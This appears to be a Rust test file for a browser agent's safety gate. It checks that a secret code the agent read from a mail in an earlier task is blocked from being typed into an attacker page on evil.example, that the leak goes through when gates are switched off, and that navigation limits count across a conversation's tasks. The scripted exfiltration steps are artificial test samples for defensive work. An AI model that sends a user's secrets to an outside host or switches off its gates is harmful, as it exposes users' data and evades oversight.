//! A conversation is one, however its tasks ended and whatever they were.

use super::{CODE, EVIL, MAIL, Try, agent, mail, start};
use edith_gate::Switch;
use edith_protocol::{Command, ConversationId, Extras, Reference, ReferenceKind};
use edith_testkit::{FakePage, Scripted, World};
use serde_json::json;

fn open(url: &str) -> Scripted {
    Scripted::call("navigate", &json!({ "url": url }).to_string())
}

fn world() -> World {
    let world = World::default();
    world.browser.add_host("mail.example", mail());
    world.browser.open_in_front("about:blank");
    world
}

/// The second task: it opens a page of the attacker's and writes the code there. Whether it arrived.
fn tells(world: &World, conversation: Option<&ConversationId>, off: bool) -> bool {
    world.browser.open_in_front("about:blank");
    if off {
        Switch::all_off();
    }
    let second = Try::new("What is in the news? Just look around.")
        .page(EVIL, FakePage::new("News").input("Note"))
        .opens(EVIL)
        .types("INPUT:Note", CODE);
    let asks = second.play_in(world, conversation).0;
    Switch::only_off(None);
    let log = world.browser.log();
    let arrived = log.iter().any(|(page, done)| page.contains("evil.example") && done.contains(CODE));
    assert!(arrived != asks.iter().any(|ask| ask.action().is_some()) || off, "{asks:?} {log:?}");
    arrived
}

#[test]
fn what_a_task_read_counts_for_the_next_however_it_ended() {
    type First = fn(&World) -> ConversationId;
    let firsts: [(&str, First); 8] = [
        ("completed", |world| {
            world.model.will([open(MAIL), Scripted::complete("Read.")]);
            let (_, conversation) = start(world, agent(&format!("Read {MAIL}"), None), Extras::default());
            world.settle();
            conversation
        }),
        ("stopped", |world| {
            world.model.will([open(MAIL), Scripted::Hang]);
            let (run, conversation) = start(world, agent(&format!("Read {MAIL}"), None), Extras::default());
            world.settle();
            world.send(Command::AgentStop { run_id: Some(run) });
            world.settle();
            conversation
        }),
        ("failed", |world| {
            world.model.will([
                open(MAIL),
                Scripted::call("task_fail", &json!({ "reason": "It cannot be read." }).to_string()),
            ]);
            let (_, conversation) = start(world, agent(&format!("Read {MAIL}"), None), Extras::default());
            world.settle();
            conversation
        }),
        ("answered with a text", |world| {
            world.model.will([open(MAIL), Scripted::Text("Read.".into())]);
            let (_, conversation) = start(world, agent(&format!("Read {MAIL}"), None), Extras::default());
            world.settle();
            conversation
        }),
        ("stopped after the worker's death", |world| {
            world.model.will([open(MAIL), Scripted::Hang]);
            let (run, conversation) = start(world, agent(&format!("Read {MAIL}"), None), Extras::default());
            world.settle();
            world.restart_worker();
            world.send(Command::AgentStop { run_id: Some(run) });
            world.settle();
            conversation
        }),
        ("stopped while asking", |world| {
            world.model.will([open(MAIL), Scripted::call("ask_user", &json!({ "question": "Which?" }).to_string())]);
            let (run, conversation) = start(world, agent(&format!("Read {MAIL}"), None), Extras::default());
            world.settle();
            world.send(Command::AgentStop { run_id: Some(run) });
            world.settle();
            conversation
        }),
        ("a reference to a mail", |world| {
            world.browser.open_in_front(MAIL);
            world.model.will([Scripted::Text("It is a code.".into())]);
            let reference = Reference {
                kind: ReferenceKind::Page,
                title: "Mail".into(),
                url: MAIL.into(),
                text: format!("Your code is {CODE}"),
            };
            let (_, conversation) = start(
                world,
                agent("What does this say?", None),
                Extras { context: vec![reference], ..Extras::default() },
            );
            world.settle();
            world.browser.open_in_front("about:blank");
            conversation
        }),
        ("two tasks before", |world| {
            world.model.will([open(MAIL), Scripted::complete("Read.")]);
            let (_, conversation) = start(world, agent(&format!("Read {MAIL}"), None), Extras::default());
            world.settle();
            world.model.will([Scripted::complete("Nothing.")]);
            start(world, agent("And now?", Some(&conversation)), Extras::default());
            world.settle();
            conversation
        }),
    ];
    let mut forgotten = Vec::new();
    for (name, first) in firsts {
        let one = world();
        let conversation = first(&one);
        if tells(&one, Some(&conversation), false) {
            forgotten.push(name);
        }
        let one = world();
        let conversation = first(&one);
        assert!(tells(&one, Some(&conversation), true), "{name}: without gates it is told");
    }
    // The control: another conversation has read nothing.
    let one = world();
    one.model.will([open(MAIL), Scripted::complete("Read.")]);
    start(&one, agent(&format!("Read {MAIL}"), None), Extras::default());
    one.settle();
    assert!(tells(&one, None, false));
    assert!(forgotten.is_empty(), "{forgotten:?}");
}

/// Free moves are counted over the tasks of a conversation.
#[test]
fn moves_are_counted_over_the_tasks_of_a_conversation() {
    let mut counts = Vec::new();
    for together in [true, false] {
        let world = world();
        let hosts: Vec<String> = (0..30).map(|at| format!("https://n{at}.example/")).collect();
        let list = hosts
            .iter()
            .enumerate()
            .fold(FakePage::new("News"), |page, (at, url)| page.link(&format!("Story {at}"), url));
        world.browser.add_host("news.example", list);
        for at in 0..30 {
            world.browser.add_host(&format!("n{at}.example"), FakePage::new("Story"));
        }
        world.model.will([open(MAIL), Scripted::complete("Read.")]);
        let (_, mut conversation) =
            start(&world, agent(&format!("Read {MAIL} and https://news.example/"), None), Extras::default());
        world.settle();
        let mut followed = 0;
        for task in 0..4 {
            let before = world.browser.done().iter().filter(|done| done.starts_with("click \"Story")).count();
            let steps = (0..6)
                .fold(Try::new("Look around at https://news.example/").opens("https://news.example/"), |one, at| {
                    one.clicks(&format!("LINK:Story {}", task * 6 + at)).does("go_back", json!({}))
                });
            if !together {
                world.model.will([open(MAIL), Scripted::complete("Read.")]);
                conversation = start(&world, agent(&format!("Read {MAIL}"), None), Extras::default()).1;
                world.settle();
            }
            world.browser.open_in_front("about:blank");
            steps.play_in(&world, Some(&conversation));
            followed += world.browser.done().iter().filter(|done| done.starts_with("click \"Story")).count() - before;
        }
        counts.push(followed);
    }
    println!("followed in one conversation, and in four: {counts:?}");
    assert!(counts[0] <= 10 && counts[1] > 10, "{counts:?}");
}
